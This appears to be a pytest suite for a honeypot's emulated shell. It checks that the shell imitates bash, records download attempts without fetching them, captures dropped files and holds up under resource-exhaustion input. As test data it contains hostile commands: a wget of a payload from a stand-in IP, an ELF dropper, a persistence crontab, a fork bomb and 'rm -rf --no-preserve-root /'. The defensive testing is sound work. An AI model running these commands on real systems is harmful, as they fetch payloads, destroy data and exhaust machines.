@@ -1,0 +1,173 @@
+# SPDX-License-Identifier: MIT
+from __future__ import annotations
+
+import time
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from decnet_decoys.shell.call import MAX_OUTPUT, MAX_WRITTEN
+from decnet_decoys.shell.interpreter import HANG_SECONDS
+from decnet_decoys.shell.registry import programs
+
+from ..conftest import NOW, Player, root_shell  # noqa: TID252  # the folder's own fixtures
+
+
+@pytest.mark.parametrize(
+    ("line", "text"),
+    [
+        ("echo a b", "a b\n"),
+        ("echo $HOME $USER ~", "/root root /root\n"),
+        ("echo '$HOME' \"$USER\"", "$HOME root\n"),
+        ("X=5; echo $X ${X}1 ${Y:-none} $((X*2+1))", "5 51 none 11\n"),
+        ("echo $(hostname) `whoami`", "web-01 root\n"),
+        ("false || echo b && echo c", "b\nc\n"),
+        ("true && echo a || echo b", "a\n"),
+        ("echo b a | tr a-z A-Z", "B A\n"),
+        ("printf 'b\\na\\n' | sort | head -1", "a\n"),
+        ("for i in 1 2; do echo n$i; done", "n1\nn2\n"),
+        ("if [ -d /etc ]; then echo y; else echo n; fi", "y\n"),
+        ("case abc in x) echo 1;; a*) echo 2;; esac", "2\n"),
+        ("f() { echo in $1; }; f x", "in x\n"),
+        ("(cd /tmp; pwd); pwd", "/tmp\n/root\n"),
+        ("echo {a,b}{1..2}", "a1 a2 b1 b2\n"),
+        ("cat <<E\n$USER\nE", "root\n"),
+        ("cat <<'E'\n$USER\nE", "$USER\n"),
+        ("cat <<< hi", "hi\n"),
+        ("printf 'a\\nb\\n' | while read x; do echo got $x; done", "got a\ngot b\n"),
+        ("echo x > /tmp/f; cat /tmp/f; echo y >> /tmp/f; wc -l /tmp/f", "x\n2 /tmp/f\n"),
+        ("nosuch 2>/dev/null; echo $?", "127\n"),
+        ("ls /nosuch 2>&1 | wc -l", "1\n"),
+        ("yes | head -2", "y\ny\n"),
+        ("echo aGk= | base64 -d", "hi"),
+        ("echo -ne '\\x41\\x42'", "AB"),
+        ("sh -c 'echo $0 $1' a b", "a b\n"),
+        ("echo 'echo arg $1' > s; chmod +x s; ./s one", "arg one\n"),
+        ("cd /usr && cd .. && pwd", "/\n"),
+        ("uname -m; nproc; id -u", "x86_64\n2\n0\n"),
+        ("echo /etc/host*", "/etc/hostname /etc/hosts\n"),
+        ("grep -c root /etc/passwd", "1\n"),
+        ("expr 3 + 4; test 3 -gt 4; echo $?", "7\n1\n"),
+        ("busybox echo hi", "hi\n"),
+        ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; echo $i", "3\n"),
+    ],
+)
+def test_a_line_prints_what_a_shell_would(run: Player, line: str, text: str) -> None:
+    assert run(line).text == text
+
+
+def test_an_unknown_command_is_named_as_bash_does(run: Player) -> None:
+    played = run("frobnicate --now")
+    assert played.errors == "-bash: frobnicate: command not found\n"
+    assert played.status == 127
+
+
+def test_busybox_complains_in_its_own_words(player: Callable[..., Player]) -> None:
+    assert player("nas")("apt update").errors == "-sh: apt: not found\n"
+
+
+def test_nothing_is_fetched_and_the_wish_is_recorded(run: Player) -> None:
+    played = run("cd /tmp; wget -q http://198.51.100.9/m.sh -O m.sh; ls m.sh")
+    assert [(one.action, one.detail["url"]) for one in played.requested] == [("fetch", "http://198.51.100.9/m.sh")]
+    assert "No such file" in played.errors
+
+
+def test_a_dropped_file_is_captured_byte_for_byte(run: Player) -> None:
+    played = run("echo -ne '\\x7fELF\\xff\\x00' > /tmp/.x; chmod 777 /tmp/.x; /tmp/.x")
+    assert [one.data for one in played.captured] == [b"\x7fELF\xff\x00"]
+    assert played.status == 0
+
+
+def test_standard_input_becomes_a_file(player: Callable[..., Player]) -> None:
+    played = player("debian-web", "root", b"\x00payload", terminal=None)("cat > /tmp/p; wc -c < /tmp/p")
+    assert [one.data for one in played.captured] == [b"\x00payload"]
+    assert played.text == "8\n"
+
+
+def test_a_session_sees_only_its_own_changes(player: Callable[..., Player], machine: Any) -> None:
+    first, second = Player(root_shell(machine)), Player(root_shell(machine))
+    first("echo mine > /root/note; rm /etc/hostname")
+    assert second("cat /root/note").status == 1
+    assert second("cat /etc/hostname").text == "web-01\n"
+
+
+def test_a_user_may_not_do_what_root_may(player: Callable[..., Player]) -> None:
+    deploy = player("debian-web", "deploy")
+    assert "Permission denied" in deploy("echo x > /etc/motd").errors
+    assert deploy("cat /etc/shadow").errors == "cat: /etc/shadow: Permission denied\n"
+    assert deploy("ls /root").status == 2
+    assert deploy("touch /etc/x").status == 1
+
+
+def test_sudo_wants_the_password(player: Callable[..., Player]) -> None:
+    assert player("debian-web", "deploy", b"deploy")("sudo id -u").text == "0\n"
+    refused = player("debian-web", "deploy", b"wrong", b"wrong", b"wrong")("sudo id -u")
+    assert refused.status == 1
+    assert "3 incorrect password attempts" in refused.errors
+
+
+def test_passwd_asks_twice(player: Callable[..., Player]) -> None:
+    assert "updated successfully" in player("debian-web", "root", b"new", b"new")("passwd").errors
+    assert "unchanged" in player("debian-web", "root", b"new", b"other")("passwd").errors
+
+
+def test_a_crontab_is_kept_and_shown(run: Player) -> None:
+    played = run("(crontab -l; echo '* * * * * /tmp/x') | crontab -; crontab -l")
+    assert played.text == "* * * * * /tmp/x\n"
+    assert [one.path for one in played.captured] == ["/var/spool/cron/crontabs/root"]
+
+
+def test_sleep_lets_time_pass_in_order(run: Player) -> None:
+    assert run("echo a; sleep 2; echo b").pauses == [2.0]
+
+
+def test_exit_leaves_with_its_status(run: Player) -> None:
+    assert run("exit 3").status == 3
+    assert run.shell.finished
+
+
+def test_an_endless_loop_hangs_instead_of_working(run: Player) -> None:
+    played = run("while true; do :; done")
+    assert played.pauses[-1] == HANG_SECONDS
+    assert played.status == 137
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "yes", "cat /dev/zero", "cat /dev/urandom | base64", "seq 1 999999999", "while true; do yes; done",
+        "for i in {1..400}; do yes > /tmp/f$i; done", "for i in {1..300}; do cat /dev/zero >> /tmp/z; done",
+        "a() { a | a; }; a", "echo 'sh /tmp/r' > /tmp/r; sh /tmp/r", "exec " * 900 + "id", "eval " * 500 + "id",
+        "x=aaaaaaaaaa; for i in {1..60}; do x=$x$x; done; echo $x", "ls " + "*/" * 200, "echo {1..9}{1..9}{1..9}{1..9}",
+        "for i in {1..200}; do mkdir -p d/d; cd d; done", "ln -s /tmp/l /tmp/l; cat /tmp/l/x", "find / -name '*a*b*c*d*e*f*g*'",
+        "echo $((9**9**9**9)) $((1<<99999999)) $((1/0))", "printf '%99999999s' x", "head -c 999999999999 /dev/zero",
+        "cp -r / /tmp/a; cp -r / /tmp/b; mv / /x; rm -rf --no-preserve-root /",
+    ],
+)  # fmt: skip
+def test_no_line_works_for_long_or_prints_without_end(run: Player, line: str) -> None:
+    began = time.process_time()
+    played = run(line)
+    assert time.process_time() - began < 5
+    assert len(played.text) + len(played.errors) <= MAX_OUTPUT + MAX_WRITTEN
+
+
+WORDS = st.sampled_from(
+    [*sorted(programs()), "|", ";", "&&", "||", ">", ">>", "<", "2>&1", "&", "$(", ")", "`", "'", '"', "$x", "${x%%a}", "{", "}",
+     "*", "/", "..", "-r", "-n", "-c", "-d", "-", "--", "/etc/passwd", "/tmp/x", "9" * 20, "while true; do", "done", "if", "then",
+     "fi", "<<E\n", "\nE\n", "\0", "é", "\udcff", "$((", "))", "*/*", "/dev/zero", "s/a/b/", "{1..9999}"]
+)  # fmt: skip
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(WORDS, min_size=1, max_size=9).map(" ".join), st.sampled_from(["root", "deploy"]))
+def test_no_line_makes_the_shell_raise(machine: Any, line: str, user: str) -> None:
+    player = Player(root_shell(machine, user), (b"x", None, b"y"))
+    player(line)
+    assert player.shell.prompt.startswith(player.shell.user.name)
+
+
+def test_the_clock_is_the_one_it_was_given(run: Player) -> None:
+    assert run("date +%s").text == f"{NOW}\n"
